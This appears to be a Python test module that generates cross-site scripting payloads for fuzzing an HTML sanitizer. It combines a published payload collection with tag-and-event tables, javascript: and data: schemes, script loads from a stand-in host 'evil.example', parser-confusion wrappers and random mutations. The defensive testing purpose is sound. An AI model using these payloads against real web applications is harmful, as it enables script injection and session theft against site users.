# ruff: noqa: E501 - a payload is read best on its one line
"""What attackers write: a published collection, our own vectors, a systematic table, and mutations of them all.

The collection is BRS-KB (MIT, a development dependency). The table is made here: every element with every event, each kind of
address in every attribute that loads or leads, in several spellings; and contexts whose parsing changes when read again.
"""

from __future__ import annotations

import itertools
import random
from collections.abc import Iterator

import brs_kb

from tests.markup import vectors

EVIL = "//evil.example"
TAGS = ["a", "abbr", "audio", "b", "base", "blockquote", "body", "br", "button", "canvas", "center", "code", "custom-tag", "dd", "details", "dialog", "div", "dl", "dt", "embed", "fieldset", "figure", "font", "form", "frameset", "h1", "i", "iframe", "image", "img", "input", "ins", "isindex", "keygen", "label", "li", "link", "listing", "map", "marquee", "math", "menu", "meta", "meter", "object", "ol", "option", "p", "picture", "plaintext", "pre", "q", "select", "source", "span", "strong", "style", "summary", "svg", "table", "tbody", "td", "template", "textarea", "th", "time", "title", "tr", "track", "u", "ul", "video", "xmp"]
EVENTS = ["onabort", "onafterprint", "onanimationend", "onanimationstart", "onauxclick", "onbeforecopy", "onbeforeinput", "onbeforematch", "onbeforetoggle", "onbegin", "onblur", "oncanplay", "onchange", "onclick", "onclose", "oncontentvisibilityautostatechange", "oncontextmenu", "oncopy", "oncuechange", "oncut", "ondblclick", "ondrag", "ondragend", "ondragenter", "onend", "onerror", "onfocus", "onfocusin", "onformdata", "onfullscreenchange", "ongotpointercapture", "onhashchange", "oninput", "oninvalid", "onkeydown", "onkeypress", "onkeyup", "onload", "onloadeddata", "onloadstart", "onmessage", "onmousedown", "onmouseenter", "onmouseover", "onmousewheel", "onpageshow", "onpaste", "onplay", "onpointerdown", "onpointerenter", "onpointerrawupdate", "onpopstate", "onprogress", "onratechange", "onrepeat", "onreset", "onresize", "onscroll", "onscrollend", "onsearch", "onseeked", "onselect", "onselectionchange", "onstart", "onsubmit", "onsuspend", "ontimeupdate", "ontoggle", "ontouchstart", "ontransitionend", "onunhandledrejection", "onunload", "onvolumechange", "onwebkitanimationstart", "onwheel"]
SPELLINGS = (
    "<{tag} {event}=alert(1)>x</{tag}>", "<{tag}/{event}='alert(1)'/autofocus tabindex=1>x", '<{tag} x="\n"{event}\t=\n"alert(1)">x',
    "<{TAG} {EVENT}=&#97;lert(1) style=animation-name:x>x",
)  # fmt: skip
SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "\x01javascript:alert(1)", "java\tscript:alert(1)", "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)", f"{EVIL}/x", f"https:{EVIL}/x", f"\\\\{EVIL[2:]}\\x", f"/\t{EVIL[1:]}/x", "blob:x", "about:srcdoc",
)  # fmt: skip
LOADS = (
    "<a href={q}{u}{q}>x</a>", "<img src={q}{u}{q}>", "<img srcset={q}{u} 2x{q}>", "<iframe src={q}{u}{q}></iframe>", "<embed src={q}{u}{q}>",
    "<object data={q}{u}{q}></object>", "<link rel=stylesheet href={q}{u}{q}>", "<link rel=preload as=image href={q}{u}{q}>",
    "<base href={q}{u}{q}>", "<meta http-equiv=refresh content={q}0;url={u}{q}>", "<form action={q}{u}{q}><button>x</button></form>",
    "<button formaction={q}{u}{q}>x</button>", "<video src={q}{u}{q} poster={q}{u}{q}></video>", "<audio src={q}{u}{q} autoplay></audio>",
    "<svg><a xlink:href={q}{u}{q}><text y=9>x</text></a></svg>", "<svg><image href={q}{u}{q} /></svg>", "<svg><use href={q}{u}{q} /></svg>",
    "<svg><script href={q}{u}{q}></script></svg>", "<math href={q}{u}{q}>x</math>", "<script src={q}{u}{q}></script>", "<body background={q}{u}{q}>",
    "<table background={q}{u}{q}><td>x</table>", "<p style={q}background:url({u}){q}>x</p>", "<style>@import '{u}';</style>", "<input type=image src={q}{u}{q}>",
    "<picture><source srcset={q}{u}{q}><img></picture>", "<track src={q}{u}{q}>", "<frameset><frame src={q}{u}{q}></frameset>", "<a ping={q}{u}{q} href=/>x</a>",
    "<blockquote cite={q}{u}{q}>x</blockquote>", "<iframe srcdoc={q}<script src={u}></script>{q}></iframe>",
)  # fmt: skip
WRAPS = (
    "{}", "<svg>{}</svg>", "<math><mtext>{}</mtext></math>", "<noscript>{}</noscript>", "<template>{}</template>", "<select>{}</select>",
    "<table>{}</table>", "<title>{}</title>", "<textarea>{}</textarea>", "<style>{}</style>", "<xmp>{}</xmp>", "<!--{}-->", "<![CDATA[{}]]>",
    "<p title='{}'>x</p>", '"{}', "'{}", "]]>{}", "</script>{}", "--!>{}", "<svg><style>{}</style></svg>", "<form><math><mtext></form><form><mglyph><style></math>{}",
    "<svg></p><style><a id='</style>{}'>", "<math><annotation-xml encoding=text/html>{}</annotation-xml></math>",
)  # fmt: skip
NOISE = ("<", ">", '"', "'", "/", "\x00", "\t", "\n", "`", "=", "&", "-->", "<!--", "</p>", "<svg>", "</style>", "]]>", "\u2028", "\u202e", "&#x3c;", "&lt;", " ")


def published() -> list[str]:
    """The collection's payloads."""
    return [entry["payload"] for entry in brs_kb.get_all_payloads().values()]


def systematic() -> Iterator[str]:
    """The table."""
    for number, (tag, event) in enumerate(itertools.product(TAGS, EVENTS)):
        yield SPELLINGS[number % len(SPELLINGS)].format(tag=tag, event=event, TAG=tag.upper(), EVENT=event.upper())
    for load, scheme, quote in itertools.product(LOADS, SCHEMES, ('"', "'")):
        yield load.format(u=scheme, q=quote)
    for wrap, inner in itertools.product(WRAPS, vectors.ALL):
        yield wrap.replace("{}", inner)


def distinct() -> list[str]:
    """Every payload once, always in the same order."""
    return list(dict.fromkeys([*vectors.ALL, *published(), *systematic()]))


def mutations(count: int, seed: int = 7) -> list[str]:
    """`count` distinct descendants: cut, spliced, doubled, wrapped, re-encoded, with noise between the letters."""
    chance, parents, made = random.Random(seed), distinct(), {}
    known = set(parents)
    while len(made) < count:
        text = chance.choice(parents)[:600]
        for _ in range(chance.randint(1, 4)):
            at = chance.randrange(len(text) + 1)
            match chance.randrange(7):
                case 0:
                    text = text[:at] + chance.choice(NOISE) + text[at:]
                case 1:
                    text = text[:at] + text[at + chance.randint(1, 4) :]
                case 2:
                    text = text[:at] + chance.choice(parents)[:200]
                case 3:
                    text = chance.choice(WRAPS).replace("{}", text)
                case 4:
                    text = text[:at] + "".join(f"&#x{ord(letter):x};" for letter in text[at : at + 3]) + text[at + 3 :]
                case 5:
                    text = "".join(letter.upper() if chance.random() < 0.3 else letter for letter in text)
                case 6:
                    text = text[:at] + text[at : at + 20] * 2 + text[at + 20 :]
        if text not in known:
            made[text] = None
    return list(made)
